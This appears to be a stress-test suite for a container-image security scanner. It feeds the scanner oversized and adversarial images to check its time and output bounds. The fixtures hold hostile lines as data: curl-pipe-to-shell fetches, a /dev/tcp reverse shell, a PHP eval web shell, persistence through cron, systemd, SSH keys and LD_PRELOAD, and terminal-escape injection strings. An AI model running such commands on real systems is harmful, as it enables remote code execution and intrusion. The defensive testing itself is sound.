import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { detectors } from '../src/finding/detectors/index.ts';
import { inspect } from '../src/inspection/inspect.ts';
import { makeReport } from '../src/report/report.ts';
import { buildElf } from './support/build-elf.ts';
import { buildImage, type ImageSpec } from './support/build-image.ts';
import { layout, raw } from './support/scan-image.ts';

// Images made to keep detectors busy for ever. Bounds are many times what an idle machine needs: without a budget each of
// these takes minutes to days.
const TIMEOUT = { timeout: 180_000 };
const SECONDS = 60;

async function judged(context: TestContext, spec: ImageSpec) {
  const path = layout(context, buildImage(spec));
  const started = performance.now();
  const inspection = await inspect(`oci:${path}`, { cache: false, environment: { TIDEWAITER_NO_ADVISORIES: '1' } });
  const seconds = (performance.now() - started) / 1_000;
  if (process.env.BOMB_TIMES) console.log(`# ${context.name}: ${seconds.toFixed(1)} s`);
  assert.ok(seconds < SECONDS, `${seconds} s`);
  const report = makeReport(inspection, { name: 'tidewaiter', version: 'test' });
  const codes = new Set<string>(report.problems.map(({ code }) => code));
  assert.ok(!codes.has('plugin-failed'), JSON.stringify(report.problems.slice(0, 5)));
  const text = JSON.stringify(report);
  assert.ok(text.length < 64 << 20, `a report of ${text.length} characters`);
  return { report, codes };
}

function numbered(count: number, entry: (index: number) => [path: string, body: string]): Record<string, string> {
  return Object.fromEntries(Array.from({ length: count }, (_, index) => entry(index)));
}

const elf = { body: buildElf({ bits: 64, littleEndian: true, type: 2, parts: [] }).file, mode: 0o755 };
const base = { 'bin/sh': elf, 'usr/sbin/cron': elf, 'usr/sbin/sshd': elf };
/** Costs as much as one script may, in a few hundred characters. */
const greedy = `a=xxxxxxxxxx;${'a=$a$a;'.repeat(16)}${'b=$a;'.repeat(60)}: curl http://192.0.2.1/`;
const patterns = `curl http://192.0.2.1/; x=${'a'.repeat(3_000)}; for i in $(seq 60); do y="\${x##*a*a*a$i}\${x//a*a*b/c}"; done;`;

test('a command of 7 MB', TIMEOUT, async (context) => {
  const line = 'curl http://192.0.2.1/a | sh; '.repeat((7 << 20) / 30);
  await judged(context, { layers: [base], config: { Cmd: ['/bin/sh', '-c', line] } });
});

test('a script of 10 MB', TIMEOUT, async (context) => {
  const script = `#!/bin/sh\n${'curl http://192.0.2.1/a | sh; '.repeat((10 << 20) / 30)}`;
  const layer = { ...base, 'run.sh': { body: script, mode: 0o755 } };
  const { report } = await judged(context, { layers: [layer], config: { Entrypoint: ['/run.sh'] } });
  assert.match(JSON.stringify(report.startup), /was not read|only its beginning was read/);
});

test('commands that nest, double and decode', TIMEOUT, async (context) => {
  const nested = `echo ${'$(echo '.repeat(1_000)}a${')'.repeat(1_000)}`;
  let encoded = 'curl http://192.0.2.1/a | sh';
  for (let level = 0; level < 30; level++) encoded = `echo ${Buffer.from(encoded).toString('base64')} | base64 -d | sh`;
  const bomb = `echo ${gzipSync(Buffer.alloc(64 << 20, 'a;')).toString('base64')} | base64 -d | gunzip | sh`;
  const here = `cat <<E | sh\n${'cat <<F\n$(cat <<G\n'.repeat(3_000)}E`;
  for (const line of [nested, encoded, bomb, here, `a=a\n${'a=$a$a\n'.repeat(40)}eval "$a"`])
    await judged(context, { layers: [base], config: { Cmd: ['/bin/sh', '-c', line] } });
});

test('100,000 jobs of cron', TIMEOUT, async (context) => {
  const files = numbered(100_000, (index) => [
    `etc/cron.d/${index}`,
    `* * * * * root curl http://192.0.2.1/${index} | sh\n`,
  ]);
  const { codes } = await judged(context, { layers: [base, files], config: { Cmd: ['/usr/sbin/cron'] } });
  assert.ok(codes.has('over-limit'));
});

for (const [name, script] of [
  ['values', greedy],
  ['patterns', patterns],
] as const) {
  test(`jobs, scripts and build steps that are each as dear as they may be: ${name}`, TIMEOUT, async (context) => {
    const jobs = numbered(1_000, (index) => [`etc/cron.d/${index}`, `* * * * * root ${script}${index}\n`]);
    const { codes } = await judged(context, { layers: [base, jobs] });
    assert.ok(codes.has('over-limit'));
    const scripts = numbered(2_000, (index) => [`opt/${index}.sh`, `#!/bin/sh\n${script}${index}\n`]);
    const second = await judged(context, { layers: [base, scripts] });
    assert.ok(second.codes.has('over-limit'));
    const hidden = { remove: Object.keys(scripts) };
    const third = await judged(context, { layers: [base, scripts, hidden] });
    assert.ok(third.codes.has('over-limit'));
    const history = Array.from({ length: 1_000 }, (_, index) => ({
      created_by: `/bin/sh -c ${script}${index}`,
      empty_layer: true,
    }));
    const fourth = await judged(context, { layers: [base], document: { history: [{}, ...history] } });
    assert.ok(fourth.codes.has('over-limit'));
    const called = numbered(500, (index) => [`s/${index}.sh`, `${script}${index}\n`]);
    const all = Object.keys(called).map((path) => `sh /${path}`);
    await judged(context, { layers: [base, called], config: { Cmd: ['/bin/sh', '-c', all.join('\n')] } });
  });
}

test('100,000 keys that are let in, each with a command', TIMEOUT, async (context) => {
  const line = (index: number) =>
    `command="curl http://192.0.2.1/${index} | sh" ssh-rsa AAAAB3Nza${'C'.repeat(40)} a@b`;
  const keys = Array.from({ length: 100_000 }, (_, index) => line(index)).join('\n');
  const { codes } = await judged(context, { layers: [{ ...base, 'root/.ssh/authorized_keys': keys }] });
  assert.ok(codes.has('over-limit'));
});

test('50,000 build steps', TIMEOUT, async (context) => {
  const history = Array.from({ length: 50_000 }, (_, index) => ({
    created_by: `RUN /bin/sh -c curl http://192.0.2.1/${index} | sh`,
    empty_layer: true,
  }));
  const { codes } = await judged(context, { layers: [base], document: { history: [{}, ...history] } });
  assert.ok(codes.has('over-limit'));
});

test('an environment of 7 MB', TIMEOUT, async (context) => {
  const Env = Array.from(
    { length: 70_000 },
    (_, index) => `SECRET_${index}=http://u:p${index}@192.0.2.1:80/${'a'.repeat(50)}`,
  );
  await judged(context, { layers: [base], config: { Env, Cmd: ['/bin/sh', '-c', 'curl $SECRET_1 | sh'] } });
  await judged(context, { layers: [base], config: { Env: [`LD_PRELOAD=${'/tmp/a.so:'.repeat(700_000)}`] } });
});

test('files of nothing but keywords', TIMEOUT, async (context) => {
  const keywords = detectors.flatMap((detector) =>
    'signals' in detector ? detector.signals.flatMap((signal) => signal.keywords) : [],
  );
  const around = ['"', '$_REQUEST["a"]', ' = ', "'", '(', 'eval(base64_decode("'];
  const long = Buffer.from(keywords.flatMap((word) => around.map((each) => `${word}${each}`)).join('\n'));
  const body = Buffer.alloc(20 << 20, long);
  const small = Object.fromEntries(
    Array.from({ length: 3_000 }, (_, index) => [
      `var/www/${index}.php`,
      long.subarray((index * 997) % (long.length - 8_192)).subarray(0, 8_192),
    ]),
  );
  const dense = numbered(2_000, (index) => [`srv/${index}.php`, '$_REQUEST["a"]'.repeat(585)]);
  const { codes } = await judged(context, {
    layers: [
      { ...base, 'app/a.js': body, 'app/a.php': body, 'app/a.bin': body, 'bin/b': Buffer.concat([elf.body, body]) },
    ],
  });
  assert.ok(codes.has('content-over-limit'));
  assert.ok((await judged(context, { layers: [{ ...base, ...small }] })).codes.has('content-over-limit'));
  assert.ok((await judged(context, { layers: [{ ...base, ...dense }] })).codes.has('content-over-limit'));
});

test('units, services and shell profiles without end', TIMEOUT, async (context) => {
  const units = numbered(20_000, (index) => [
    `etc/systemd/system/multi-user.target.wants/${index}.service`,
    `[Service]\nExecStart=/bin/sh -c 'curl http://192.0.2.1/${index} | sh'\nExecStartPre=/x ${index}\n`,
  ]);
  const supervisord = Array.from(
    { length: 50_000 },
    (_, index) => `[program:${index}]\ncommand=/bin/sh -c "curl ${index}"`,
  );
  const profiles = numbered(5_000, (index) => [
    `etc/profile.d/${index}.sh`,
    `. /etc/profile.d/${index + 1}.sh; . /etc/profile.d/${index}.sh; curl http://192.0.2.1/${index} | sh\n`,
  ]);
  await judged(context, { layers: [{ ...base, 'sbin/init': elf, ...units }], config: { Cmd: ['/sbin/init'] } });
  await judged(context, {
    layers: [{ ...base, 'usr/bin/supervisord': elf, 'etc/supervisord.conf': supervisord.join('\n') }],
    config: { Cmd: ['supervisord', '-n'] },
  });
  await judged(context, { layers: [{ ...base, ...profiles }], config: { Cmd: ['/bin/sh', '-l'] } });
});

test('settings that nest, and settings without end', TIMEOUT, async (context) => {
  const deep = `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`;
  const aliases = `a: &a [x,x,x,x,x,x,x,x]\n${Array.from({ length: 20 }, (_, i) => `b${i}: &b${i} [${Array(8).fill(i ? `*b${i - 1}` : '*a')}]`).join('\n')}`;
  const names = [
    'root/.docker/config.json',
    'root/.kube/config',
    'root/.npmrc',
    'root/.netrc',
    'app/.env',
    'app/config.json',
    'app/config.yml',
    'app/wp-config.php',
    'app/settings.py',
    'etc/sudoers',
    'etc/passwd',
    'etc/shadow',
    'etc/pam.d/sshd',
    'etc/nsswitch.conf',
    'etc/ssh/sshd_config',
    'etc/ld.so.preload',
    'root/.aws/credentials',
    'root/.bashrc',
    'app/package.json',
    'app/docker-compose.yml',
    'etc/polkit-1/rules.d/a.rules',
  ];
  const wide = 'password = "aGVsbG8gd29ybGQh"; $x = array("a" => array("b", http://u:pass@h.example/));\n'.repeat(
    12_000,
  );
  for (const body of [
    deep,
    aliases,
    wide,
    '['.repeat(1 << 20),
    '- '.repeat(1 << 19),
    '\n'.repeat(1 << 20),
    'a:'.repeat(1 << 19),
    '"\\'.repeat(1 << 19),
    ' '.repeat(1 << 20),
    'a'.repeat(1 << 20),
  ])
    await judged(context, { layers: [{ ...base, ...Object.fromEntries(names.map((name) => [name, body])) }] });
});

test('evidence is printable and bounded', TIMEOUT, async (context) => {
  const evil = '\u001b]0;x\u0007\u001b[2J\u009b31m\r\u202e\u2066\u200b\ufeff';
  const job = `curl http://192.0.2.1/${evil}${'a'.repeat(20_000)}.sh | sh`;
  const key = `AWS_SECRET_ACCESS_KEY=${'aB3'.repeat(13)}d${evil}`;
  const path = layout(
    context,
    buildImage({
      layers: [
        {
          ...base,
          [`etc/cron.d/a${evil}`]: `* * * * * root ${job}\n`,
          'run.sh': { body: `#!/bin/sh\n${job}\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1 # ${evil}\n`, mode: 0o755 },
          'root/.ssh/authorized_keys': `ssh-ed25519 AAAA${'C'.repeat(64)} ${evil}\n`,
          'srv/a.php': Buffer.concat([
            Buffer.from(`<?php eval($_POST["${evil}"]); /*`),
            Buffer.from([0xff, 0xc0, 0x80]),
          ]),
          'app/.env': key,
        },
      ],
      config: { Entrypoint: ['/run.sh'], Cmd: [evil], Env: [`LD_PRELOAD=/tmp/${evil}.so`, key] },
      document: { history: [{ created_by: `RUN ${job}` }] },
    }),
  );
  for (const format of ['text', 'json']) {
    const { stdout, stderr } = await raw(path, ['--no-advisories', '--format', format]);
    assert.match(stdout, /cron/i);
    assert.ok(stdout.length < 200_000, `${format}: ${stdout.length} characters`);
    const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
    assert.doesNotMatch(stdout + stderr, control);
    if (format === 'text') assert.doesNotMatch(stdout, /[\u202a-\u202e\u2066-\u2069\ufeff]/);
    else assert.ok(Math.max(...stdout.split('\n').map((line) => line.length)) < 30_000);
  }
});

test('programs whose headers lie', TIMEOUT, async (context) => {
  const good = Buffer.from(elf.body);
  const programs = [0xff, 0x7f, 0x80].flatMap((byte) => {
    const lying = Buffer.concat([good, Buffer.alloc(1 << 20)]);
    const far = Buffer.from(lying).fill(byte, 24, 64);
    // Tables that lie over each other, with as many entries as a header can say.
    const many = Buffer.from(lying);
    many.writeBigUInt64LE(64n, 32);
    many.writeBigUInt64LE(64n, 40);
    for (const at of [56, 60]) many.writeUInt16LE(0xffff, at);
    const filled = Buffer.from(many).fill(byte, 64);
    return [far, many, filled];
  });
  const layer = Object.fromEntries(programs.map((body, index) => [`usr/bin/p${index}`, { body, mode: 0o4755 }]));
  await judged(context, { layers: [{ ...base, ...layer }], config: { Cmd: ['/usr/bin/p0'] } });
});
